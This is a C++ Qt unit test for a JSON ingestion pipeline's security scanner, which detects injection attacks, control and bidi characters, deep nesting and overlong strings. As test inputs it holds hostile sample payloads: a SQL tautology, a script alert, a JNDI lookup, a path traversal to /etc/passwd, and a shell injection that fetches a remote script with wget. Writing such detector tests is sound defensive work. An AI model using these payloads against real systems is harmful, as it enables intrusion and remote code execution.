#include "core/ingest/parseddocument_p.h"
#include "core/ingest/stages/securityscan_p.h"

#include <QFile>
#include <QTemporaryDir>
#include <QtTest>

using namespace explorer;
using api::SecurityPolicy;
using ingest::Record;
using ingest::SecurityRules;
using ingest::SecurityScan;

namespace
{

Logger quiet(LogLevel::Error, [](std::string_view) {});

std::shared_ptr<const SecurityRules> shipped() { return *SecurityRules::load({}, quiet); }

Record scanned(const std::string &json, SecurityPolicy policy,
               const std::shared_ptr<const SecurityRules> &rules)
{
    Record record;
    record.made = json;
    ingest::DocumentParser parser;
    if (!parser.parse(json))
        SecurityScan(rules).take(record, parser.root(), policy);
    return record;
}

std::string withText(std::string_view text)
{
    std::string json = "{\"text\":";
    ingest::appendJsonString(json, text);
    return json + "}";
}

QByteArrayList linesOf(const char *name)
{
    QFile file(qEnvironmentVariable("EXPLORERIO_SHARED") +
               QStringLiteral("/data/conformance/security-scan/") + QString::fromLatin1(name));
    return file.open(QIODevice::ReadOnly) ? file.readAll().trimmed().split('\n') : QByteArrayList();
}

/// Of how many, how many were found, by class.
struct Share {
    int all = 0;
    int found = 0;
    [[nodiscard]] double percent() const { return all == 0 ? 0 : 100.0 * found / all; }
};

std::map<std::string, Share> findIn(const char *name, const char *classMember)
{
    SecurityRules::Scanner scanner(shipped());
    std::map<std::string, Share> shares;
    for (const QByteArray &line : linesOf(name)) {
        const auto json = nlohmann::json::parse(line.toStdString());
        bool isIncomplete = false;
        const std::string text = "\n" + json["text"].get<std::string>() + "\n";
        const bool isFound = !scanner.scan(text, isIncomplete).empty();
        for (Share *share : {&shares[json[classMember].get<std::string>()], &shares["all"]}) {
            ++share->all;
            share->found += isFound ? 1 : 0;
        }
    }
    for (const auto &[label, share] : shares)
        qInfo("%s, %s: %d of %d (%.2f %%)", name, label.c_str(), share.found, share.all, share.percent());
    return shares;
}

} // namespace

class SecurityScanTest : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void findsAttacks_data();
    void findsAttacks();
    void flagsQuarantinesAndRefuses();
    void takesMoreRulesFromAFolder();
    void leavesARuleFileOutThatDoesNotCompile();
    void findsMostOfTheLabelledAttacks();
    void leavesBenignTextsAlone();
};

void SecurityScanTest::findsAttacks_data()
{
    QTest::addColumn<std::string>("json");
    QTest::addColumn<std::string>("rule");
    QTest::addColumn<std::string>("pointer");
    const auto row = [](const char *name, const std::string &json, const char *rule, const char *pointer) {
        QTest::newRow(name) << json << std::string(rule) << std::string(pointer);
    };
    row("tautology", R"({"a":1,"user":{"name":"x' or '1'='1"}})", "sql_injection", "/user/name");
    row("escaped", R"({"a":["ok","\u003cscript>alert(1)\u003c/script>"]})", "script_injection", "/a/1");
    row("in a key", R"({"<script>":1})", "script_injection", "/<script>");
    row("logging", R"({"agent":"${jndi:ldap://x/a}"})", "template_injection", "/agent");
    row("out of the folder", R"({"path":"../../../../etc/passwd"})", "path_traversal", "/path");
    row("shell", R"({"q":"a; wget http://x/y.sh"})", "command_injection", "/q");
    row("control", R"({"a":"x\u0007"})", "control_characters", "/a");
    row("C1", R"({"a":"x\u0085"})", "control_characters", "/a");
    row("direction", R"({"a":"x\u202etxt"})", "bidi_override", "/a");
    row("isolate", R"({"a":{"b":"x\u2066y"}})", "bidi_override", "/a/b");
    row("deep", R"({"a":)" + std::string(21, '[') + std::string(21, ']') + "}", "deep_nesting", "");
    row("long", R"({"a":")" + std::string(300'000, 'x') + "\"}", "long_string", "/a");
    row("name", R"({"a":"Sinead O'Connor and Miles O'Brien"})", "", "");
    row("prose", R"({"a":"Select one from the union or drop it; the update is where it was -- or not."})", "",
        "");
    row("markup that names", R"({"a":"if a < b and c > d then script"})", "", "");
    row("umlauts", R"({"a":"Grüße\tan\nalle – 東京"})", "", "");
}

void SecurityScanTest::findsAttacks()
{
    QFETCH(std::string, json);
    QFETCH(std::string, rule);
    QFETCH(std::string, pointer);
    const Record record = scanned(json, SecurityPolicy::Quarantine, shipped());
    QCOMPARE(record.problem.has_value(), !rule.empty());
    if (rule.empty())
        return;
    QCOMPARE(record.problem->stage, std::string("security"));
    QCOMPARE(record.problem->rule, rule);
    QCOMPARE(record.problem->pointer, pointer);
}

void SecurityScanTest::flagsQuarantinesAndRefuses()
{
    const std::string json = withText("1' or '1'='1");
    const Record flagged = scanned(json, SecurityPolicy::Flag, shipped());
    QVERIFY(!flagged.problem);
    QCOMPARE(flagged.made, json);
    QCOMPARE(flagged.changes,
             (std::vector<api::StageChange>{{"security", "flagged", "/text", "sql_injection"}}));
    QVERIFY(!scanned(json, SecurityPolicy::Quarantine, shipped()).problem->isRefused);
    QVERIFY(scanned(json, SecurityPolicy::Refuse, shipped()).problem->isRefused);
}

void SecurityScanTest::takesMoreRulesFromAFolder()
{
    QTemporaryDir folder;
    QFile file(folder.filePath(QStringLiteral("own.yar")));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("rule own_marker { strings: $a = \"ZZ-TOP-SECRET\" condition: $a }");
    file.close();
    const auto rules = *SecurityRules::load(folder.path().toStdString(), quiet);
    QCOMPARE(rules->count(), shipped()->count() + 1);
    QCOMPARE(scanned(withText("a ZZ-TOP-SECRET b"), SecurityPolicy::Quarantine, rules).problem->rule,
             std::string("own_marker"));
    QVERIFY(!scanned(withText("a ZZ-TOP-SECRET b"), SecurityPolicy::Quarantine, shipped()).problem);
}

void SecurityScanTest::leavesARuleFileOutThatDoesNotCompile()
{
    QTemporaryDir folder;
    QFile file(folder.filePath(QStringLiteral("broken.yar")));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("rule broken { condition: }");
    file.close();
    std::string logged;
    Logger logger(LogLevel::Error, [&logged](std::string_view line) { logged += line; });
    const auto rules = SecurityRules::load(folder.path().toStdString(), logger);
    QVERIFY(rules.has_value());
    QCOMPARE((*rules)->count(), shipped()->count());
    QVERIFY2(logged.find("broken.yar") != std::string::npos, logged.c_str());
}

void SecurityScanTest::findsMostOfTheLabelledAttacks()
{
    if (linesOf("attack-sqli-xss.dev.ndjson").isEmpty())
        QSKIP("The labelled texts are not there");
    const auto shares = findIn("attack-sqli-xss.dev.ndjson", "class");
    QVERIFY(shares.at("sqli").percent() >= 95);
    QVERIFY(shares.at("xss").percent() >= 95);
}

void SecurityScanTest::leavesBenignTextsAlone()
{
    if (linesOf("benign.dev.ndjson").isEmpty())
        QSKIP("The labelled texts are not there");
    QVERIFY(findIn("benign.dev.ndjson", "kind").at("all").percent() <= 1);
}

QTEST_APPLESS_MAIN(SecurityScanTest)
#include "tst_securityscan.moc"
